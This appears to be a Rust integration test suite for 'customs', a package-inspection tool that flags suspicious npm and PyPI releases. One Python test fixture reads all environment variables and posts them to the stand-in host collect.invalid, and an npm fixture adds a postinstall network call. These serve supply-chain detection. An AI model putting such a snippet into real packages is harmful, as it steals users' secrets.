//! `customs inspect` and `customs diff` as a person calls them: the built program, with
//! registries on a loopback port and a home of its own.

// A test that cannot be set up has failed.
#![allow(clippy::unwrap_used, clippy::expect_used)]
#![cfg(unix)]

// Not everything that other tests put on a shelf is needed here.
#[allow(dead_code)]
#[path = "../faults/shelves.rs"]
mod shelves;
mod wheel;
mod world;

use serde_json::Value;
use shelves::{Release, days, release, tgz};
use world::World;

const NAME: &str = "left-pad";

fn npm(version: &str, age: i64, scripts: &str, setup: &str) -> Release {
    let manifest = format!(r#"{{"name": "{NAME}", "version": "{version}", "scripts": {scripts}}}"#);
    let bytes = tgz(&[("package.json", &manifest), ("setup.js", setup)]);
    release(version, days(age)).bytes(bytes)
}

fn honest(version: &str, age: i64) -> Release {
    npm(version, age, "{}", "module.exports = (text) => text;\n")
}

/// It asks for something when it is installed: no proof, and new in its line.
fn asking(version: &str, age: i64) -> Release {
    let scripts = r#"{"postinstall": "node setup.js"}"#;
    npm(version, age, scripts, "fetch('https://api.example/v1');\n")
}

fn rules(target: &Value) -> Vec<&str> {
    let findings = target["verdict"]["findings"].as_array().unwrap();
    findings
        .iter()
        .map(|finding| finding["rule"].as_str().unwrap())
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_release_is_judged_beside_the_one_before_it_which_the_report_names() {
    let world = World::new().await;
    world.publish_npm(
        NAME,
        vec![
            honest("1.0.0", 400),
            honest("1.1.0", 300),
            asking("1.2.0", 40),
            asking("2.0.0", 30),
        ],
    );
    let target = |arguments: &[&str]| world.json(arguments)["targets"][0].clone();

    let one = target(&["inspect", "--json", "left-pad@1.2.0"]);
    let before = &one["files"][0]["predecessor"];
    assert_eq!(before["version"], "1.1.0", "{one}");
    assert_eq!(before["release"], "pkg:npm/left-pad@1.1.0");
    let digest = before["digest"].as_str().unwrap();
    assert!(digest.starts_with("sha512:"), "{digest}");
    assert!(rules(&one).contains(&"novelty"), "{:?}", rules(&one));

    let alone = target(&["inspect", "--json", "--no-predecessor", "left-pad@1.2.0"]);
    assert!(!rules(&alone).contains(&"novelty"), "{:?}", rules(&alone));
    assert!(alone["files"][0]["not_compared"].is_string(), "{alone}");

    let against = ["inspect", "--json", "--against", "1.0.0", "left-pad@1.2.0"];
    let chosen = target(&against);
    assert_eq!(chosen["files"][0]["predecessor"]["version"], "1.0.0");

    // The first of its line has none: a new major may do what it likes.
    let first = target(&["inspect", "--json", "left-pad@2.0.0"]);
    let because = first["files"][0]["not_compared"].as_str().unwrap();
    assert!(because.contains("line"), "{because}");
    assert!(!rules(&first).contains(&"novelty"));
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_release_is_to_be_compared_with_must_be_there() {
    let world = World::new().await;
    world.publish_npm(NAME, vec![honest("1.0.0", 400), honest("1.1.0", 300)]);
    let ran = world.run(&["inspect", "--against", "0.9.0", "left-pad@1.1.0"]);
    assert_eq!(ran.code, Some(3), "{}{}", ran.stdout, ran.stderr);
    assert!(ran.stdout.contains("left-pad@0.9.0"), "{}", ran.stdout);
    let ran = world.run(&["inspect", "--against", "1.0.0", "."]);
    assert_eq!(ran.code, Some(2), "{}", ran.stderr);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_lockfile_compares_young_releases_and_says_why_it_does_not_compare_old_ones() {
    let world = World::new().await;
    world.publish_npm(NAME, vec![honest("1.0.0", 400), honest("1.1.0", 300)]);
    world.publish_npm("right-pad", vec![honest("1.0.0", 400), honest("1.1.0", 3)]);
    world.lock(&[(NAME, "1.1.0"), ("right-pad", "1.1.0")]);
    let report = world.json(&["inspect", "--json", "--all"]);
    let file = |name: &str| {
        let targets = report["targets"].as_array().unwrap();
        let one = targets.iter().find(|one| one["target"] == name);
        one.unwrap_or_else(|| panic!("no {name}: {report}"))["files"][0].clone()
    };
    let old = file("left-pad@1.1.0");
    let because = old["not_compared"].as_str().unwrap();
    assert!(because.contains("--every-predecessor"), "{because}");
    let young = file("right-pad@1.1.0");
    assert_eq!(young["predecessor"]["version"], "1.0.0", "{young}");

    let ran = world.run(&["inspect", "--all", "--every-predecessor", "--json"]);
    assert_eq!(ran.code, Some(0), "{}", ran.stderr);
    assert!(!ran.stdout.contains("not_compared"), "{}", ran.stdout);
}

#[tokio::test(flavor = "multi_thread")]
async fn every_file_of_a_python_release_is_read_and_the_worst_decides() {
    let world = World::new().await;
    let quiet = "def pad(text):\n    return text\n";
    let steals = "import json, os, urllib.request\n\
                  taken = json.dumps(dict(os.environ)).encode()\n\
                  urllib.request.urlopen('https://collect.invalid/v1', data=taken)\n";
    let any = wheel::wheel("pads", "1.0", quiet);
    let linux = wheel::wheel("pads", "1.0", steals);
    world.publish_pypi(
        "pads",
        &[
            ("pads-1.0-py3-none-any.whl", &any),
            ("pads-1.0-cp313-cp313-linux_x86_64.whl", &linux),
            ("pads-1.0-cp314-cp314-linux_x86_64.whl", &linux),
        ],
    );
    let ran = world.run(&["inspect", "--json", "pads==1.0"]);
    assert_eq!(ran.code, Some(1), "{}{}", ran.stdout, ran.stderr);
    let report: Value = serde_json::from_str(&ran.stdout).unwrap();
    let files = report["targets"][0]["files"].as_array().unwrap();
    let names: Vec<&str> = files.iter().map(|f| f["file"].as_str().unwrap()).collect();
    assert_eq!(
        names,
        [
            "pads-1.0-py3-none-any.whl",
            "pads-1.0-cp313-cp313-linux_x86_64.whl"
        ]
    );
    assert_eq!(files[0]["standing"], "clean", "{report}");
    assert_ne!(files[1]["standing"], "clean", "{report}");
    let twin = "pads-1.0-cp314-cp314-linux_x86_64.whl";
    assert_eq!(files[1]["same"][0], twin);
    assert!(!files[1]["differs"].as_array().unwrap().is_empty());

    let text = world.run(&["inspect", "pads==1.0"]).stdout;
    assert!(text.contains("not in pads-1.0-py3-none-any.whl"), "{text}");
    assert!(text.contains("collect.invalid"), "{text}");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_of_a_wheel_its_sources_do_not_explain_is_told() {
    let world = World::new().await;
    let module = "def pad(text):\n    return text\n";
    let sources = tgz(&[
        (
            "PKG-INFO",
            "Metadata-Version: 2.1\nName: pads\nVersion: 1.0\n",
        ),
        ("pads/__init__.py", module),
    ]);
    let same = wheel::wheel("pads", "1.0", module);
    let other = wheel::wheel("pads", "1.0", "def pad(text):\n    return text + ' '\n");
    world.publish_pypi(
        "pads",
        &[
            ("pads-1.0.tar.gz", &sources),
            ("pads-1.0-py3-none-any.whl", &same),
            ("pads-1.0-cp313-cp313-linux_x86_64.whl", &other),
        ],
    );
    let ran = world.run(&["inspect", "--json", "pads==1.0"]);
    let report: Value = serde_json::from_str(&ran.stdout).unwrap();
    let files = report["targets"][0]["files"].as_array().unwrap();
    let phantoms = |name: &str| {
        let file = files.iter().find(|file| file["file"] == name).unwrap();
        file["phantoms"].as_array().unwrap().len()
    };
    assert_eq!(phantoms("pads-1.0-py3-none-any.whl"), 0, "{report}");
    assert_eq!(phantoms("pads-1.0.tar.gz"), 0, "{report}");
    assert_eq!(
        phantoms("pads-1.0-cp313-cp313-linux_x86_64.whl"),
        1,
        "{report}"
    );
    let text = world.run(&["inspect", "pads==1.0"]).stdout;
    let told = "pads/__init__.py has other content in the wheel than in its source distribution";
    assert!(text.contains(told), "{text}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_diff_judges_the_later_one_beside_the_earlier_one() {
    let world = World::new().await;
    world.publish_npm(NAME, vec![honest("1.0.0", 400), asking("1.1.0", 300)]);
    let report = world.json(&["diff", "--json", "left-pad@1.0.0", "left-pad@1.1.0"]);
    assert_eq!(report["before_input"]["version"], "1.0.0");
    assert_eq!(report["after_input"]["version"], "1.1.0");
    assert_eq!(report["not_judged_together"], Value::Null);
    let alone = world.json(&["diff", "--json", "left-pad@1.1.0"]);
    assert_eq!(alone["before_input"], report["before_input"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn folders_that_a_walk_leaves_out_are_told_and_are_not_clean() {
    let world = World::new().await;
    world.publish_npm(NAME, vec![honest("1.0.0", 400)]);
    world.lock(&[(NAME, "1.0.0")]);
    std::fs::create_dir_all(world.project().join("a/b/c")).unwrap();
    let whole = world.run(&["inspect", "--all"]);
    assert_eq!(whole.code, Some(0), "{}{}", whole.stdout, whole.stderr);
    let ran = world.run(&["inspect", "--all", "--depth", "1"]);
    assert_eq!(ran.code, Some(3), "{}", ran.stdout);
    assert!(ran.stdout.contains("--depth"), "{}", ran.stdout);
}
